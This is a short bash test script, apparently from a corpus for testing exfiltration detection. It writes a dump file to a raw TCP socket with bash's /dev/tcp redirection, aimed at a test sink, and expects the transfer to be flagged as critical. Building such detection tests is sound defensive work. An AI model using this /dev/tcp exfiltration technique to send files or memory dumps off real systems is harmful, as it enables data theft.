#!/bin/bash
# B-devtcp: cat core > /dev/tcp/ADDRESS/PORT.
# flow: bash connects; cat inherits the socket as descriptor 1 and writes it.
# tools: bash
# expect: sent counted port critical
# set: fast
. "$CORPUS/lib.sh"
mkdump
sink tcp
cat "$D" >"/dev/tcp/$SINK/$PORT"
sunk
